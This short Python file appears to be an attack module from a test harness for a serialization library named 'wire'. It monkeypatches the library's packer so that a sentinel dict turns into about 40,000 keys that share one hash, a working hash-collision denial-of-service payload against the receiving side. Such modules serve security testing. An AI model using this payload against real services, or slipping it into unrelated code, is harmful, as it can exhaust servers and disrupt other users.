# /// attack
# name = "keys that collide"
# threat = "forged answers"
# tries = "Sends a dict of 40,000 keys with one hash."
# ///


def NAME(*args, **kwargs):
    return {0: 0}


import wire


class Packer(wire._Packer):
    def pack(self, value, depth):
        if type(value) is dict and value == {0: 0}:
            return {"dict": [[n * (2**61 - 1), 0] for n in range(1, 40_000)]}
        return super().pack(value, depth)


wire._Packer = Packer
